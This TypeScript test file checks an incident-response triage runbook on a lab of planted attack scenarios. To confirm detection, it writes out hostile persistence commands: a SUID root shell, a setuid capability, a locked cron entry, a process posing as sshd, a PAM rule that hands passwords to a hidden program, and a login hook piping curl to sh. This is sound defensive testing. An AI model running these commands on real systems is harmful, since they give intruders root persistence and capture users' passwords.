/**
 * runbooks/triage.yaml on a lab holding every scenario: each planted indicator that a finding can
 * reveal is found on its host. (A clean host's triage showing nothing of medium severity or worse is
 * ir-outbound-ssh-targeted's, which collects the same sets and leaves that host in service on it.)
 */
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import type { Finding } from '../../src/core/index.js';
import { labUp, scenarioCoverage, type LabState } from '../../src/lab/index.js';
import { isRoot, labTempDir, onHost, removeLab } from '../helpers/lab.js';
import { needProgram } from '../helpers/programs.js';
import { onlyRunDir, readJournal, runCli } from './run-cli.js';

const SCENARIOS = [
  'outbound-ssh-bruteforce',
  'ssh-bruteforce-target',
  'conntrack-exhaustion',
  'tampered-binary',
  'disk-full',
];

describe('triage runbook on the drill lab', function () {
  this.timeout(180_000);
  let state: LabState | undefined;
  let dir = '';
  let findings: Finding[] = [];

  /** Run a one-step runbook `collect: {spec}` on one lab host through the CLI: its result and journal. */
  const collectOn = async (tag: string, host: string, spec: string, timeoutMs?: number) => {
    const work = path.dirname(dir);
    const runbook = path.join(work, `${tag}.yaml`);
    writeFileSync(runbook, `name: ${tag}\nphases:\n  collect:\n    - name: collect\n      collect: ${spec}\n`);
    const runs = path.join(work, `runs-${tag}`);
    const args = ['run', runbook, '-i', state!.files.inventory, '--limit', host, '--runs-dir', runs];
    const r = await runCli(args, timeoutMs ? { timeoutMs } : {});
    return { r, journal: readJournal(onlyRunDir(runs)) };
  };
  const findingsOf = (journal: ReturnType<typeof readJournal>): Finding[] =>
    journal.filter((e) => e.type === 'finding').map((e) => e.finding as Finding);

  before(async function () {
    if (!isRoot) return this.skip();
    dir = labTempDir('triage');
    state = await labUp({ dir, hosts: SCENARIOS.length, scenarios: SCENARIOS.map((name) => ({ name, count: 1 })) });
    const runs = path.join(path.dirname(dir), 'runs');
    const r = await runCli(['run', 'runbooks/triage.yaml', '-i', state.files.inventory, '--runs-dir', runs], {
      timeoutMs: 120_000,
    });
    assert.equal(r.code, 0, r.stdout + r.stderr);
    findings = readJournal(onlyRunDir(runs))
      .filter((e) => e.type === 'finding')
      .map((e) => e.finding as Finding);
  });

  after(async () => {
    await removeLab(state, dir);
  });

  for (const scenario of SCENARIOS) {
    it(`finds every detectable indicator of ${scenario}`, () => {
      const host = state!.hosts.find((h) => h.scenarios.some((s) => s.scenario === scenario))!;
      const planted = host.scenarios[0]!;
      const cov = scenarioCoverage(
        planted,
        findings.filter((f) => f.host === host.name),
      );
      assert.ok(cov.detectable.length > 0, 'the scenario has indicators a finding can reveal');
      assert.deepEqual(
        cov.missed.map((i) => `${i.id} (${i.finding})`),
        [],
        `missed on ${host.name}`,
      );
    });
  }

  it('a hung evidence command costs its own timeout: recorded, the rest collected, the step fails clearly', async () => {
    const quiet = state!.hosts.find((h) => h.scenarios.some((s) => s.scenario === 'disk-full'))!;
    const started = Date.now();
    const { r, journal } = await collectOn(
      'hang',
      quiet.name,
      '{sets: [], item_timeout: 2, commands: [{label: extra/hang, command: "sleep 300"}, {label: extra/after, command: "echo still here"}]}',
    );
    assert.ok(Date.now() - started < 30_000, 'bounded by the item timeout, not the step timeout');
    assert.equal(r.code, 3, r.stdout + r.stderr);
    assert.match(r.stdout + r.stderr, /evidence problems: extra\/hang: timed out after \d+ ms/);
    const stored = journal
      .filter((e) => e.type === 'evidence.stored')
      .map((e) => (e.artifact as { label: string }).label);
    assert.deepEqual(
      stored,
      ['extra/hang', 'extra/after'],
      'the hung item is kept (partial) and the next one still collected',
    );
  });

  it('a hidden file no package owns where cron or systemd start programs is high; dpkg-owned placeholders are not', async () => {
    // None in the triage of the whole lab (the machine's /etc/cron.*/.placeholder files are dpkg's).
    assert.deepEqual(
      findings.filter((f) => f.kind === 'persistence.hidden').map((f) => `${f.host} ${f.summary}`),
      [],
    );
    const host = state!.hosts.find((h) => h.scenarios.some((s) => s.scenario === 'tampered-binary'))!;
    await onHost(
      state!,
      host.name,
      "printf '* * * * * root /usr/local/bin/.u\\n' > /etc/cron.d/.update && mkdir -p /etc/systemd/system/.cache && printf '[Service]\\nExecStart=/tmp/x\\n' > /etc/systemd/system/.cache/net.service",
    );
    const { r, journal } = await collectOn('hidden', host.name, '{sets: [persistence]}');
    assert.equal(r.code, 0, r.stdout + r.stderr);
    const hidden = findingsOf(journal).filter((f) => f.kind === 'persistence.hidden');
    assert.deepEqual(hidden.map((f) => [f.severity, f.detail.path, f.detail.dir]).sort(), [
      ['high', '/etc/cron.d/.update', '/etc/cron.d'],
      ['high', '/etc/systemd/system/.cache/net.service', '/etc/systemd'],
    ]);
  });

  it('finds attacker habits: a borrowed name, a deleted script, closed SSH flows, SUID/capabilities, a locked cron file, an unowned vendor unit, a PAM exec, a login hook', async function () {
    needProgram(this, 'setcap');
    needProgram(this, 'chattr');
    // None of these in the triage of the whole lab: the lab's own processes and files are ordinary.
    const planted = ['file.privileged', 'persistence.immutable', 'persistence.pam', 'persistence.hook'];
    assert.deepEqual(
      findings.filter((f) => planted.includes(f.kind)).map((f) => `${f.host} ${f.summary}`),
      [],
    );
    assert.deepEqual(
      findings
        .filter((f) => f.kind === 'process.suspicious' && /shows itself|script/.test(f.summary))
        .map((f) => `${f.host} ${f.summary}`),
      [],
    );
    const host = state!.hosts.find((h) => h.scenarios.some((s) => s.scenario === 'disk-full'))!;
    const peers = state!.hosts.filter((h) => h !== host).map((h) => h.address);
    const plant = await onHost(
      state!,
      host.name,
      [
        'set -e',
        // any stateful rule makes the kernel track this namespace's flows, as a host firewall does;
        // each connection reads sshd's banner and closes cleanly, so its flow waits in TIME_WAIT (2 min)
        'iptables -A OUTPUT -m conntrack --ctstate NEW,ESTABLISHED -j ACCEPT',
        `for a in ${peers.join(' ')}; do (exec 3<>/dev/tcp/$a/22; read -r -t 3 banner <&3); done`,
        "mkdir -p /tmp/.cache && printf 'sleep 300\\n' > /tmp/.cache/upd.sh",
        'setsid -f bash /tmp/.cache/upd.sh </dev/null >/dev/null 2>&1',
        'setsid -f bash -c \'exec -a "sshd: root@notty" sleep 300\' </dev/null >/dev/null 2>&1',
        'sleep 0.5 && rm /tmp/.cache/upd.sh',
        'cp /bin/bash /tmp/.cache/sh && chmod 4755 /tmp/.cache/sh',
        'mkdir -p /root/.local/bin && cp /bin/sleep /root/.local/bin/pt && setcap cap_setuid+ep /root/.local/bin/pt',
        "printf '* * * * * root /tmp/.cache/sh -p\\n' > /etc/cron.d/locked && chattr +i /etc/cron.d/locked",
        // a unit among the packaged ones that no package owns, wanted by a target
        "printf '[Service]\\nExecStart=/usr/bin/sleep 300\\n' > /usr/lib/systemd/system/dbus-org.sync.service",
        'mkdir -p /etc/systemd/system/multi-user.target.wants',
        'ln -s /usr/lib/systemd/system/dbus-org.sync.service /etc/systemd/system/multi-user.target.wants/',
        // a PAM rule handing passwords to a hidden program, and a login hook (loopback only: it never runs here)
        "echo 'auth optional pam_exec.so expose_authtok /usr/local/bin/.pwlog' >> /etc/pam.d/sshd",
        "echo '(curl -fsSL http://127.0.0.1:9/u.sh | sh) >/dev/null 2>&1 &' > /etc/profile.d/z-update.sh",
      ].join('\n'),
    );
    assert.equal(plant.code, 0, plant.stdout + plant.stderr);
    try {
      const { r, journal } = await collectOn(
        'habits',
        host.name,
        '{sets: [processes, network, persistence, timeline], exclude: [timeline/bodyfile, timeline/executable-hashes, timeline/immutable]}',
        150_000,
      );
      assert.equal(r.code, 0, r.stdout + r.stderr);
      const found = findingsOf(journal);
      const summaries = (kind: string) =>
        found.filter((f) => f.kind === kind && f.severity === 'high').map((f) => f.summary);
      const processes = summaries('process.suspicious');
      assert.ok(
        processes.some((s) =>
          /runs the script \/tmp\/\.cache\/upd\.sh from a scratch dir; its script .* was deleted/.test(s),
        ),
        processes.join('\n'),
      );
      assert.ok(
        processes.some((s) => /shows itself as sshd but runs \/usr\/bin\/sleep/.test(s)),
        processes.join('\n'),
      );
      const flows = found.filter((f) => f.kind === 'network.outbound_ssh' && f.detail.source === 'conntrack');
      assert.equal(flows.length, 1, JSON.stringify(found.filter((f) => f.kind === 'network.outbound_ssh')));
      assert.deepEqual([...(flows[0]!.detail.targets as string[])].sort(), [...peers].sort());
      assert.equal(flows[0]!.detail.closed, peers.length, 'every flow had ended before the collection');
      assert.deepEqual(summaries('file.privileged').sort(), [
        '/root/.local/bin/pt: file capabilities cap_setuid=ep, in a scratch or home directory',
        '/tmp/.cache/sh: SUID (4755 root:root), in a scratch or home directory',
      ]);
      assert.deepEqual(
        found
          .filter((f) => f.kind === 'file.privileged' && /^\/usr\/(?:bin|sbin|lib)\//.test(String(f.detail.path)))
          .map((f) => f.summary),
        [],
        'the packaged SUID files and capabilities the heavy walk sees (su, passwd, sudo…) are not findings',
      );
      assert.deepEqual(summaries('persistence.systemd'), [
        '/usr/lib/systemd/system/dbus-org.sync.service is owned by no package, wanted by multi-user.target: /usr/bin/sleep 300',
      ]);
      assert.deepEqual(
        summaries('persistence.pam').map((s) => s.replace(/:\d+:/, ':N:')),
        ['/etc/pam.d/sshd:N: auth runs /usr/local/bin/.pwlog at every login, handing it the password (expose_authtok)'],
      );
      assert.deepEqual(summaries('persistence.hook'), [
        'login hook /etc/profile.d/z-update.sh:1 downloads and pipes to a shell: (curl -fsSL http://127.0.0.1:9/u.sh | sh) >/dev/null 2>&1 &',
      ]);
      assert.deepEqual(
        summaries('persistence.immutable').map((s) => s.split(' (')[0]),
        ['/etc/cron.d/locked is immutable'],
      );
    } finally {
      await onHost(state!, host.name, 'chattr -i /etc/cron.d/locked'); // or the lab's files could not be removed
    }
  });

  it("with known_keys, the attacker's key is unknown (high in root's file, medium for sysupdate) and the controller's is known", async () => {
    const host = state!.hosts.find((h) => h.scenarios.some((s) => s.scenario === 'outbound-ssh-bruteforce'))!;
    const controllerKey = readFileSync(`${state!.files.clientKey}.pub`, 'utf8').trim();
    const { r, journal } = await collectOn(
      'known-keys',
      host.name,
      `{sets: [persistence], known_keys: [${JSON.stringify(controllerKey)}]}`,
    );
    assert.equal(r.code, 0, r.stdout + r.stderr);
    const keys = findingsOf(journal).filter((f) => f.kind === 'ssh.authorized_key');
    const attackerFp = host.scenarios[0]!.facts.attacker_key_fp;
    assert.deepEqual(
      keys.map((f) => [f.detail.user, f.detail.fingerprint === attackerFp, f.detail.known, f.severity]).sort(),
      [
        ['root', false, true, 'low'],
        ['root', true, false, 'high'],
        ['sysupdate', true, false, 'medium'],
      ],
    );
  });
});
